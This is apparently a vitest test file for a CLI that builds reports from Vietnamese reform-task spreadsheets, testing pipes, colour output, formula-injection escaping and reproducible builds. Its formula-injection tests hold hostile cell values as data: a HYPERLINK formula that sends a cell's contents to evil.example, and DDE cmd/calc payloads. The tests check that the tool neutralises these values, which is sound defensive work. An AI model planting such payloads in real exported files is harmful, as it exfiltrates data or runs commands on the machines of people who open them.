/**
 * reform-report in a shell: stdin, pipes, a reader that closes early, colour, formula
 * injection, and the unattended build (byte-identical reruns, atomic files, stale temp files).
 * What needs a process (pipes, a terminal, the time zone, stdout and stderr apart) spawns the
 * built CLI; what is about the output alone runs its main in process.
 */
import { describe, expect, it } from 'vitest';
import { readFileSync, writeFileSync, readdirSync, copyFileSync } from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { spawnSync } from 'node:child_process';
import { pathToFileURL } from 'node:url';
import { run, bash, bin, cliEnv, example, tempDir, tasksCsv } from '../helpers/cli.js';
import { runMain } from '../helpers/in-process.js';

const asOf = ['--as-of', '2024-10-25'];

/** Enough rows that the output overflows a pipe's buffer, so `head -1` really closes it early. */
function bigTasksCsv(rows: number): string {
  const leads = ['Sở Nội vụ', 'Sở Tư pháp', 'Văn phòng UBND tỉnh', 'Sở Tài chính'];
  return tasksCsv(
    Array.from({ length: rows }, (_, i) => [
      `Rà soát, cập nhật quy trình nội bộ giải quyết thủ tục hành chính số ${i + 1}`,
      leads[i % leads.length]!,
      `${String((i % 28) + 1).padStart(2, '0')}/${String((i % 12) + 1).padStart(2, '0')}/2024`,
      i % 5 === 0 ? 'Đang thực hiện' : 'Hoàn thành',
    ]),
  );
}

describe('pipes', { timeout: 180_000 }, () => {
  it('cat tasks.csv | reform-report summary - --format csv', () => {
    const dir = tempDir();
    writeFileSync(path.join(dir, 'tasks.csv'), tasksCsv([['Rà soát thủ tục', 'Sở Tư pháp', '30/09/2024', 'Hoàn thành'], ['Số hóa hồ sơ', 'Sở Nội vụ', '30/09/2024', 'Đang thực hiện']]));
    const r = bash('cat tasks.csv | reform-report summary - --format csv --as-of 2024-10-25', { cwd: dir });
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('tasks,total,2,2024-10-25\n');
    expect(r.stdout).toContain('tasks,overdue,1,2024-10-25\n');
    expect(r.stdout).toContain('tasks,completion_rate,0.5,2024-10-25\n');
  });

  it('reads a workbook from stdin, recognised by its bytes', () => {
    const r = bash(`cat '${path.join(example, 'so-noi-vu.xlsx')}' | reform-report tasks - --format tsv --as-of 2024-10-25 | cut -f1,9`);
    expect(r.code).toBe(0);
    const lines = r.stdout.trimEnd().split('\n');
    expect(lines[0]).toBe('id\tstatus');
    expect(lines.length).toBeGreaterThan(5);
  });

  it('a TSV from stdin, piped on to another reform-report', () => {
    const dir = tempDir();
    writeFileSync(path.join(dir, 'tasks.tsv'), tasksCsv([['Rà soát thủ tục', 'Sở Tư pháp', '30/09/2024', 'Hoàn thành']]).replace(/,/g, '\t'));
    const r = bash('reform-report tasks - --format csv --as-of 2024-10-25 < tasks.tsv | reform-report summary - --format tsv --as-of 2024-10-25 | grep "^tasks\tdone\t"', { cwd: dir });
    expect(r.stdout).toBe('tasks\tdone\t1\t2024-10-25\n');
  });

  it('ends quietly with exit 0 when the reader closes the pipe (… | head -1)', () => {
    const dir = tempDir();
    writeFileSync(path.join(dir, 'big.csv'), bigTasksCsv(4000));
    for (const cmd of ['tasks big.csv --format csv', 'tasks big.csv', 'tasks big.csv --format json', 'tasks big.csv --format md']) {
      const r = bash(`reform-report ${cmd} --as-of 2024-10-25 | head -1; echo "exit=\${PIPESTATUS[0]}" >&2`, { cwd: dir });
      expect(r.stdout.split('\n').filter(Boolean), cmd).toHaveLength(1);
      expect(r.stderr, cmd).toBe('exit=0\n');
    }
  });

  it('a CSV pipe loads neither the xlsx library nor the Markdown, colour, code-page, zip or thread ones', () => {
    const dir = tempDir();
    writeFileSync(path.join(dir, 'hook.mjs'), "export async function resolve(s, c, next) { const r = await next(s, c); process.stderr.write(`LOADED ${r.url}\\n`); return r; }\n");
    writeFileSync(path.join(dir, 'register.mjs'), `import { register } from 'node:module';\nregister(${JSON.stringify(pathToFileURL(path.join(dir, 'hook.mjs')).href)});\n`);
    const input = tasksCsv([['Rà soát thủ tục', 'Sở Tư pháp', '30/09/2024', 'Hoàn thành']]);
    const traced = (args: string[]) => {
      const r = spawnSync(process.execPath, ['--import', path.join(dir, 'register.mjs'), bin, ...args], { input, cwd: dir, env: cliEnv(), encoding: 'utf8' });
      expect(r.status).toBe(0);
      return r.stderr.split('\n').filter((l) => l.startsWith('LOADED ')).join('\n');
    };
    const pipe = traced(['summary', '-', '--format', 'csv']);
    expect(pipe).toMatch(/dist\/bundle\/main\.js/);
    expect(pipe).not.toMatch(/node_modules\/(exceljs|jszip|handlebars|chalk|yaml|iconv-lite)\//);
    // Each of these costs a pipe milliseconds of start-up (bench/RESULTS-startup.md); UTF-8 text needs none.
    expect(pipe).not.toMatch(/node:(zlib|crypto|worker_threads|stream)\b/);
    // The hook sees them when they are loaded: a workbook on stdin does load exceljs.
    expect(traced(['summary', '-', '--format', 'xlsx'])).toMatch(/node_modules\/exceljs\//);
  });

  it('messages go to stderr, data to stdout', () => {
    // The meeting folder has two warnings (fixtures/meeting-2024-11/EXPECTED.md): a later date and an old one.
    const meeting = 'fixtures/meeting-2024-11';
    const r = run(['tasks', meeting, '--format', 'csv', '--verbose']);
    expect(r.stderr).toMatch(/warning asof-differs/);
    expect(r.stdout).not.toMatch(/warning/);
    // Without --verbose, a listing command counts its warnings in one line (issue 18).
    const counted = run(['tasks', meeting, '--format', 'csv']);
    expect(counted.stderr).toBe('reform-report: 2 cảnh báo — xem `reform-report validate`\n');
    expect(counted.stdout).not.toMatch(/cảnh báo/);
    // Consistent data says nothing at all.
    expect(run(['tasks', example, ...asOf, '--format', 'csv']).stderr).toBe('');
  });

  it('never waits for input: `-` on a terminal is an error, and no command prompts', () => {
    const r = bash('script -qec "reform-report summary -" /dev/null < /dev/null');
    expect(r.stdout).toMatch(/đầu vào chuẩn là bàn phím/);
    const en = bash('script -qec "reform-report summary - --lang en" /dev/null < /dev/null');
    expect(en.stdout).toMatch(/- reads standard input, which is a terminal here/);
  });
});

describe('colour', { timeout: 180_000 }, () => {
  const ansi = /\x1b\[/;
  it('none when stdout is not a terminal, or with NO_COLOR or --no-color', async () => {
    expect((await runMain(['summary', example, ...asOf], { env: { NO_COLOR: undefined } })).stdout).not.toMatch(ansi);
    expect((await runMain(['tasks', example, ...asOf, '--status', 'overdue'], { env: { NO_COLOR: undefined } })).stdout).not.toMatch(ansi);
  });

  it('FORCE_COLOR turns it on in a pipe; --no-color still turns it off', async () => {
    const forced = await runMain(['tasks', example, ...asOf, '--status', 'overdue'], { env: { FORCE_COLOR: '1' } });
    expect(forced.stdout).toMatch(/\x1b\[31m/);
    expect((await runMain(['summary', example, ...asOf], { env: { FORCE_COLOR: '1' } })).stdout).toMatch(ansi);
    expect((await runMain(['summary', example, ...asOf, '--no-color'], { env: { FORCE_COLOR: '1' } })).stdout).not.toMatch(ansi);
    expect((await runMain(['summary', example, ...asOf], { env: { FORCE_COLOR: '0', NO_COLOR: undefined } })).stdout).not.toMatch(ansi);
  });

  it('on a terminal by default, off on a terminal with NO_COLOR', () => {
    const tty = bash(`script -qec "reform-report tasks '${example}' --as-of 2024-10-25 --status overdue" /dev/null`, { env: { NO_COLOR: undefined, TERM: 'xterm' } });
    expect(tty.stdout).toMatch(/\x1b\[31m/);
    const noColor = bash(`script -qec "reform-report tasks '${example}' --as-of 2024-10-25 --status overdue" /dev/null`, { env: { NO_COLOR: '1', TERM: 'xterm' } });
    expect(noColor.stdout).toContain('TTHC-04');
    expect(noColor.stdout).not.toMatch(ansi);
  });

  it('never in machine formats or files, even when forced', async () => {
    for (const format of ['csv', 'tsv', 'json', 'md']) expect((await runMain(['tasks', example, ...asOf, '--format', format], { env: { FORCE_COLOR: '3' } })).stdout, format).not.toMatch(ansi);
  });

  it('refuses to write a workbook to a terminal', () => {
    const r = bash(`script -qec "reform-report summary '${example}' --format xlsx; echo exit=\\$?" /dev/null`);
    expect(r.stdout).toMatch(/không ghi tệp xlsx \(dạng nhị phân\) ra màn hình/);
    expect(r.stdout).toMatch(/exit=2/);
    expect(r.stdout).not.toContain('PK');
  });
});

describe('formula injection', { timeout: 180_000 }, () => {
  const hostile: [string, string][] = [
    ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "'=HYPERLINK"],
    ['+84 912 345 678', "'+84"],
    ['-2+3+cmd|\' /C calc\'!A0', "'-2+3"],
    ['@SUM(1+1)*cmd|\' /C calc\'!A0', "'@SUM"],
    ['\t=1+1', "'"],
  ];
  const input = tasksCsv(hostile.map(([title]) => [title, 'Sở Tư pháp', '30/09/2024', 'Hoàn thành']));

  it('CSV and TSV cells that begin with = + - @ or tab get a leading quote', async () => {
    const dir = tempDir();
    for (const format of ['csv', 'tsv'] as const) {
      const out = (await runMain(['tasks', '-', ...asOf, '--format', format], { input, cwd: dir })).stdout;
      const titles = out.trimEnd().split('\n').slice(1).map((l) => (format === 'tsv' ? l.split('\t')[2]! : l));
      hostile.forEach(([, start], i) => {
        const cell = format === 'tsv' ? titles[i]! : titles[i]!.split(',').slice(2).join(',');
        expect(cell.replace(/^"/, ''), `${format} ${i}`).toMatch(new RegExp(`^${start.replace(/[|+*()?]/g, '\\$&')}`));
      });
      // Numbers are data, not text: a negative count stays a number.
      expect(out).not.toMatch(/'\d/);
    }
  });

  it('the workbook holds the same texts as strings, never as formulas', async () => {
    const dir = tempDir();
    writeFileSync(path.join(dir, 'tasks.csv'), input);
    expect((await runMain(['build', 'tasks.csv', ...asOf, '--out', 'out', '--quiet'], { cwd: dir })).code).toBe(0);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(path.join(dir, 'out', 'reform-report-2024-10-25.xlsx'));
    const texts = new Map<string, ExcelJS.Cell>();
    wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => {
      if (typeof cell.value === 'string') texts.set(cell.value, cell);
    })));
    for (const [title] of hostile) {
      const cell = texts.get(title.replace(/^\t/, '').trim()) ?? texts.get(title);
      expect(cell, title).toBeDefined();
      expect(cell!.type, title).toBe(ExcelJS.ValueType.String);
      expect(cell!.formula, title).toBeUndefined();
    }
    const zip = await JSZip.loadAsync(readFileSync(path.join(dir, 'out', 'reform-report-2024-10-25.xlsx')));
    for (const name of Object.keys(zip.files).filter((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n))) {
      const xml = await zip.file(name)!.async('string');
      expect(xml, name).not.toMatch(/<f>[^<]*(HYPERLINK|SUM\(1\+1\)|cmd)/);
    }
  });
});

describe('unattended build', { timeout: 180_000 }, () => {
  it('identical inputs and flags give byte-identical .md, .json and .xlsx', async () => {
    const a = tempDir();
    const b = tempDir();
    expect(run(['build', example, ...asOf, '--out', a, '--quiet']).code).toBe(0);
    // Zip entries carry a time to 2 s: a rerun in another second must still match.
    await new Promise((resolve) => setTimeout(resolve, 2100));
    expect(run(['build', example, ...asOf, '--out', b, '--quiet'], { env: { TZ: 'Asia/Ho_Chi_Minh' } }).code).toBe(0);
    const names = readdirSync(a).sort();
    expect(names).toEqual(expect.arrayContaining(['reform-report-2024-10-25.json', 'reform-report-2024-10-25.md', 'reform-report-2024-10-25.xlsx']));
    expect(readdirSync(b).sort()).toEqual(names);
    for (const name of names) expect(readFileSync(path.join(b, name)).equals(readFileSync(path.join(a, name))), name).toBe(true);
    const zip = await JSZip.loadAsync(readFileSync(path.join(a, 'reform-report-2024-10-25.xlsx')));
    const dates = new Set(Object.values(zip.files).map((f) => f.date.toISOString()));
    expect([...dates]).toEqual(['2024-10-25T00:00:00.000Z']);
    const core = await zip.file('docProps/core.xml')!.async('string');
    expect(core).toContain('2024-10-25T00:00:00Z');
  });

  it('a stale temporary file from a killed run is neither read as input nor kept as a report', async () => {
    const dir = tempDir();
    copyFileSync(path.join(example, 'so-noi-vu.xlsx'), path.join(dir, 'so-noi-vu.xlsx'));
    writeFileSync(path.join(dir, '.reform-report-2024-10-18.json.3f9a1c.tmp'), '{"schemaVersion": 1, "half');
    writeFileSync(path.join(dir, '.so-noi-vu.xlsx.c0ffee.tmp'), 'PK\x03\x04 half a workbook');
    const r = await runMain(['validate', dir, ...asOf]);
    expect(r.stdout).not.toMatch(/\.tmp/);
    expect(r.code).toBe(0);
  });

  it('a stale temporary snapshot is not taken for the previous week', async () => {
    const first = tempDir();
    expect((await runMain(['build', example, '--as-of', '2024-10-18', '--out', first, '--quiet', '--format', 'json'])).code).toBe(0);
    const out = tempDir();
    copyFileSync(path.join(first, 'reform-report-2024-10-18.json'), path.join(out, '.reform-report-2024-10-18.json.3f9a1c2b4d5e.tmp'));
    expect((await runMain(['build', example, ...asOf, '--out', out, '--quiet', '--format', 'json'])).code).toBe(0);
    expect(JSON.parse(readFileSync(path.join(out, 'reform-report-2024-10-25.json'), 'utf8')).comparison).toBeNull();
    // The same snapshot under its own name is found: the test above is not vacuous.
    copyFileSync(path.join(first, 'reform-report-2024-10-18.json'), path.join(out, 'reform-report-2024-10-18.json'));
    expect((await runMain(['build', example, ...asOf, '--out', out, '--quiet', '--format', 'json'])).code).toBe(0);
    expect(JSON.parse(readFileSync(path.join(out, 'reform-report-2024-10-25.json'), 'utf8')).comparison.previousAsOf).toBe('2024-10-18');
  });
});
